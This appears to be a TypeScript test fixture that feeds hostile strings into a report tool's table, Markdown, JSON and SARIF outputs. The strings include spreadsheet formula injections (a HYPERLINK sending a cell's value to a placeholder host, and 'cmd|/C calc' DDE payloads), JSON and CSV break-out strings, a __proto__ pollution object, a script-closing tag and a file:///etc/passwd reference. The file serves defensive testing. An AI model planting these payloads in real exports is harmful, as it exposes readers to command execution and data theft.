import { each, everywhere } from '../case.ts';
import type { HostileClass } from '../case.ts';

/** Cells that a spreadsheet reckons with, and marks that end a cell, a row, a string. */
export default {
  about: 'what tables, spreadsheets and JSON act on',
  commands: [['trace', '--format', 'matrix'], ['trace', '--format', 'md'], ['check', '--format', 'md'], ['check', '--format', 'json'], ['check', '--format', 'gitlab'], ['check', '--format', 'sarif'], ['trace', '--format', 'json'], ['diff', '../calm/', '.', '--format', 'json'], ['validate', '--checklist', '--format', 'md']],
  must: 'be read',
  cases: each(
    {
      'a formula': '=HYPERLINK("https://example.invalid/?x="&A1,"press")',
      'a formula with a plus': '+cmd|\'/C calc\'!A0',
      'a formula with a minus': '-2+3+cmd|\'/C calc\'!A0',
      'a formula with an at sign': '@SUM(1+1)*cmd|\'/C calc\'!A0',
      'a formula after a tab': '\t=1+1',
      'a formula of full width': '\uff1d1+1',
      'a row of its own': 'a"\n"b","c"',
      'semicolons and commas': 'a;b,c;"d"',
      'a pipe': 'a | b |\n|---|\n| c',
      'the end of a string': '","severity":"info","x":"',
      'a string that goes on': '\\',
      'an escape of JSON': '\\u0022,\\u007d',
      'a pair of surrogates, the wrong way round': '\udc00\ud800',
      'half a pair': 'a\ud83d',
      '__proto__ in JSON': '{"__proto__":{"x":1}}',
      'a closing script in JSON': '</script><script>',
      'a line separator in JSON': 'a\u2028b\u2029c',
      'an address of a file in SARIF': 'file:///etc/passwd#L1',
    },
    everywhere,
  ),
} satisfies HostileClass;
